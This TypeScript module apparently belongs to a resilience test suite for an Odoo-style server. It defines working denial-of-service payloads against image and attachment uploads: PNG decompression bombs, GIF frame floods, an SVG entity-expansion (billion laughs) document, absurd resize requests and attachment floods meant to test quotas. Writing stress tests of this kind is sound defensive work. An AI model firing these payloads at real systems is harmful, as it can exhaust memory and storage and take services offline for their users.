// Pictures and attachments: bombs of pixels, many at once, sizes without number, files of visitors in a loop.
import { deflateSync } from 'node:zlib'
import { pngOf } from '../../support/png.ts'
import type { Attack, Hands, Who } from '../attack.ts'
import { type Body, many, times } from '../bodies.ts'

/** Everybody may change their own picture. */
const picture =
  (who: 'plain' | 'portal', base64: Body) =>
  ({ json2, world }: Pick<Hands, 'json2' | 'world'>) =>
    json2(who, 'res.users/write', [`{"ids":[${world.uids[who]}],"vals":{"image_1920":"`, ...base64, '"}}'])
const encoded = (bytes: Buffer): Body => [bytes.toString('base64')]
const grey = () => [9, 9, 9] as const

/** A header that claims a size, and as many zeros as there would be. */
function zeros(width: number, height: number): Buffer {
  const small = pngOf(1, 1, grey, [width, height])
  const at = small.indexOf('IDAT') - 4
  const rows = deflateSync(Buffer.alloc(Math.min(height * (1 + width * 3), 400_000_000)), { level: 9 })
  const length = Buffer.alloc(4)
  length.writeUInt32BE(rows.length)
  // Checksums are wrong: readers that mind them refuse it as cheaply as those that mind the size.
  return Buffer.concat([
    small.subarray(0, at),
    length,
    Buffer.from('IDAT'),
    rows,
    Buffer.alloc(4),
    small.subarray(-12),
  ])
}

const gif = (width: number, height: number, frames: number): Buffer => {
  const head = Buffer.from('GIF89a\x00\x00\x00\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff', 'latin1')
  head.writeUInt16LE(width, 6)
  head.writeUInt16LE(height, 8)
  const frame = Buffer.from('\x2c\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x02\x44\x01\x00', 'latin1')
  frame.writeUInt16LE(width, 5)
  frame.writeUInt16LE(height, 7)
  return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), Buffer.from(';')])
}

const pictures: Attack[] = [
  {
    name: 'picture/claims-60000-square',
    area: 'D',
    size: 60_000,
    small: 60_000,
    run: (hands, n) => picture('portal', encoded(pngOf(1, 1, grey, [n, n])))(hands),
  },
  {
    name: 'picture/claims-2-billion-wide',
    area: 'D',
    size: 2_147_483_647,
    small: 2_000_000_000,
    run: (hands, n) => picture('plain', encoded(pngOf(1, 1, grey, [n, 1])))(hands),
  },
  {
    name: 'picture/bomb-of-zeros',
    area: 'D',
    size: 11_000,
    small: 2000,
    run: (hands, n) => picture('plain', encoded(zeros(n, n)))(hands),
  },
  {
    name: 'picture/bomb-that-claims-little',
    area: 'D',
    size: 11_000,
    small: 2000,
    run: (hands, n) => {
      const bytes = zeros(n, n)
      pngOf(1, 1, grey, [10, 10]).copy(bytes, 0, 0, 33)
      return picture('plain', encoded(bytes))(hands)
    },
  },
  {
    name: 'picture/large',
    area: 'D',
    size: 3500,
    small: 500,
    run: (hands, n) =>
      picture('plain', encoded(pngOf(n, n, (x, y) => [x & 255, y & 255, (x ^ y) & 255])))(hands),
  },
  {
    name: 'picture/sixteen-large-at-once',
    area: 'D',
    size: 3500,
    small: 300,
    run: (hands, n) => {
      const body = encoded(pngOf(n, n, (x, y) => [x & 255, y & 255, 0]))
      return hands.crowd(16, 16, (at) => picture(at % 2 ? 'plain' : 'portal', body)(hands))
    },
  },
  {
    name: 'picture/many-in-one-create',
    area: 'D',
    size: 100,
    small: 5,
    run: ({ json2 }, n) => {
      const picture = pngOf(2000, 2000, (x) => [x & 255, 0, 0]).toString('base64')
      return json2('maker', 'res.partner/create', [
        '{"vals_list":[',
        many(n, (at) => `{"name":"p${at}","image_1920":"${picture}"}`),
        ']}',
      ])
    },
  },
  {
    name: 'picture/narrow',
    area: 'D',
    size: 50_000,
    small: 5000,
    run: (hands, n) => picture('portal', encoded(pngOf(n, 1, grey)))(hands),
  },
  {
    name: 'picture/frames',
    area: 'D',
    size: 400_000,
    small: 1000,
    run: (hands, n) => picture('plain', encoded(gif(5000, 5000, n)))(hands),
  },
  {
    name: 'picture/chunks-without-end',
    area: 'D',
    size: 1_000_000,
    small: 10_000,
    run: (hands, n) =>
      picture(
        'plain',
        encoded(Buffer.concat([pngOf(1, 1, grey).subarray(0, 33), Buffer.alloc(12 * n)])),
      )(hands),
  },
  {
    name: 'picture/vector',
    area: 'D',
    size: 10_000_000,
    small: 20_000,
    run: (hands, n) =>
      picture(
        'plain',
        encoded(Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(n / 3)}`)),
      )(hands),
  },
  {
    name: 'picture/vector-entities',
    area: 'D',
    size: 20,
    small: 20,
    run: (hands, n) =>
      picture(
        'plain',
        encoded(
          Buffer.from(
            `<!DOCTYPE s [<!ENTITY a "x">${Array.from({ length: n }, (_, at) => `<!ENTITY e${at} "&a;&a;&e${at - 1};&e${at - 1};">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg">&e${n - 1};</svg>`,
          ),
        ),
      )(hands),
  },
  {
    name: 'picture/junk-50-megabytes',
    area: 'D',
    size: 60_000_000,
    small: 300_000,
    run: (hands, n) => picture('portal', [times(n, 'A')])(hands),
  },
  {
    name: 'picture/no-base64',
    area: 'D',
    size: 60_000_000,
    small: 300_000,
    run: (hands, n) => picture('plain', [times(n, '=')])(hands),
  },
  {
    name: 'picture/base64-with-blanks',
    area: 'D',
    size: 10_000_000,
    small: 50_000,
    run: (hands, n) => picture('plain', [times(n, 'QUJD \\n')])(hands),
  },
  {
    name: 'picture/heads-of-all-kinds',
    area: 'D',
    size: 300_000,
    small: 10_000,
    run: async (hands, n) => {
      for (const head of [
        '\xff\xd8\xff\xe0',
        'RIFF\xff\xff\xff\x7fWEBPVP8X',
        'BM\xff\xff\xff\x7f',
        'II*\x00\x08\x00\x00\x00',
        '\x00\x00\x00\x1cftypavif',
        '8BPS\x00\x01',
        '\x00\x00\x01\x00\xff\xff',
        'GIF89a',
        'DDS ',
        'P6 99999 99999 255\n',
      ])
        await picture(
          'plain',
          encoded(Buffer.concat([Buffer.from(head, 'latin1'), Buffer.alloc(n, 0xff)])),
        )(hands)
    },
  },
  {
    name: 'picture/sizes-without-number',
    area: 'D',
    size: 500,
    small: 40,
    run: async (hands, n) => {
      await picture('plain', encoded(pngOf(600, 600, (x, y) => [x & 255, y & 255, 7])))(hands)
      const headers = { authorization: `bearer ${hands.world.keys.plain}` }
      await hands.crowd(n, 12, (at) =>
        hands.send({
          path: `/web/image/res.users/${hands.world.uids.plain}/image_1920/${1 + at}x${1 + ((at * 7) % 1999)}?crop=${at % 2}`,
          headers,
        }),
      )
    },
  },
  {
    name: 'picture/sizes-absurd',
    area: 'D',
    size: 40,
    small: 20,
    run: ({ send, crowd, world }, n) =>
      crowd(n, 8, (at) =>
        send({
          path: `/web/image/res.users/${world.uids.plain}/avatar_128/${10 ** (at % 20)}x${10 ** (at % 7)}?width=${'9'.repeat(at)}&height=-1&quality=1e9`,
          headers: { authorization: `bearer ${world.keys.plain}` },
        }),
      ),
  },
  {
    name: 'picture/company-logo-of-strangers',
    area: 'B',
    open: true,
    size: 20_000,
    small: 200,
    run: ({ send, crowd }, n) =>
      crowd(n, 30, (at) =>
        send({ path: `/web/binary/company_logo?company=${at}&dbname=${'x'.repeat(at % 500)}` }),
      ),
  },
  {
    name: 'picture/placeholders-of-strangers',
    area: 'B',
    open: true,
    size: 5000,
    small: 100,
    run: ({ send, crowd }, n) =>
      crowd(n, 30, (at) => send({ path: `/web/image/res.partner/${at}/image_1920/${at}x${at}` })),
  },
]

const attach = (who: Who, hands: Pick<Hands, 'json2'>, inner: Body) =>
  hands.json2(who, 'ir.attachment/create', ['{"vals_list":[{"name":"a",', ...inner, '}]}'])

const attachments: Attack[] = [
  {
    name: 'attachment/portal-in-a-loop',
    area: 'D',
    size: 300,
    small: 5,
    run: (hands, n) =>
      hands.crowd(n, 4, (at) =>
        attach('portal', hands, ['"datas":"', times(4_000_000, 'QUJD'.slice(at % 2)), '"']),
      ),
  },
  {
    name: 'attachment/portal-small-in-a-loop',
    area: 'D',
    size: 5000,
    small: 50,
    run: (hands, n) =>
      hands.crowd(n, 10, (at) =>
        attach('portal', hands, [`"datas":"${Buffer.from(`file ${at}`).toString('base64')}"`]),
      ),
  },
  {
    name: 'attachment/portal-many-in-one',
    area: 'D',
    size: 100_000,
    small: 300,
    run: ({ json2 }, n) =>
      json2('portal', 'ir.attachment/create', [
        '{"vals_list":[',
        many(n, (at) => `{"name":"m${at}","datas":"QUJD"}`),
        ']}',
      ]),
  },
  {
    name: 'attachment/quota-is-kept',
    area: 'D',
    size: 130,
    run: async (hands, n) => {
      let taken = 0
      await hands.crowd(n, 2, async (at) => {
        const { status } = await attach('portal', hands, [
          '"datas":"',
          times(2_600_000, 'QUJD'),
          `${String(1000 + at)}"`,
        ])
        if (status === 200) taken += 8
      })
      if (taken > 600) hands.complain(`a visitor stored ${taken} MB`)
    },
  },
  {
    name: 'attachment/80-megabytes',
    area: 'D',
    size: 110_000_000,
    small: 400_000,
    run: (hands, n) => attach('plain', hands, ['"datas":"', times(n / 4, 'QUJD'), '"']),
  },
  {
    name: 'attachment/80-megabytes-three-at-once',
    area: 'D',
    size: 110_000_000,
    run: (hands, n) =>
      hands.crowd(3, 3, () => attach('plain', hands, ['"datas":"', times(n / 4, 'QUJD'), '"'])),
  },
  {
    name: 'attachment/raw',
    area: 'D',
    size: 100_000_000,
    small: 400_000,
    run: (hands, n) => attach('plain', hands, ['"raw":"', times(n, 'r'), '"']),
  },
  {
    name: 'attachment/text-to-index',
    area: 'D',
    size: 60_000_000,
    small: 400_000,
    run: (hands, n) =>
      attach('plain', hands, ['"mimetype":"text/plain","datas":"', times(n / 4, 'YSBi'), '"']),
  },
  {
    name: 'attachment/html-to-guess',
    area: 'D',
    size: 60_000_000,
    small: 400_000,
    run: (hands, n) =>
      attach('plain', hands, ['"mimetype":"', times(1000, 'm'), '","datas":"', times(n / 4, 'PGI+'), '"']),
  },
  {
    name: 'attachment/long-name',
    area: 'D',
    size: 60_000_000,
    small: 400_000,
    run: ({ json2 }, n) =>
      json2('portal', 'ir.attachment/create', [
        '{"vals_list":[{"datas":"QUJD","name":"',
        times(n, 'n'),
        '"}]}',
      ]),
  },
  {
    name: 'attachment/long-url',
    area: 'D',
    size: 60_000_000,
    small: 400_000,
    run: (hands, n) => attach('plain', hands, ['"type":"url","url":"https://', times(n, 'u'), '"']),
  },
  {
    name: 'attachment/odd-models',
    area: 'D',
    size: 100,
    small: 20,
    run: (hands, n) =>
      hands.crowd(n, 5, (at) =>
        attach('portal', hands, [
          `"datas":"QUJD","res_model":"${['res.partner', '__proto__', 'x'.repeat(10_000), 'ir.rule', ''][at % 5]}","res_id":${at ** 9},"res_field":"image_1920"`,
        ]),
      ),
  },
  {
    name: 'attachment/read-all-content',
    area: 'D',
    size: 40,
    small: 3,
    run: async (hands, n) => {
      await hands.crowd(n, 4, (at) =>
        attach('plain', hands, ['"datas":"', times(2_500_000, 'QUJD'), `${1000 + at}"`]),
      )
      await hands.json2('plain', 'ir.attachment/search_read', ['{"domain":[],"fields":["datas","raw"]}'])
    },
  },
  {
    name: 'attachment/content-by-ranges',
    area: 'D',
    size: 2000,
    small: 40,
    run: async (hands, n) => {
      const attachment = await attach('plain', hands, ['"datas":"', times(1_000_000, 'QUJD'), '"'])
      const id = /\d+/.exec(attachment.text)?.[0]
      await hands.crowd(n, 20, (at) =>
        hands.send({
          path: `/web/content/${id}?download=1`,
          headers: {
            authorization: `bearer ${hands.world.keys.plain}`,
            range: `bytes=${Array.from({ length: 300 }, (_, i) => `${i * at}-`)}`.slice(0, 8000),
          },
        }),
      )
    },
  },
]

export const files: readonly Attack[] = [...pictures, ...attachments]
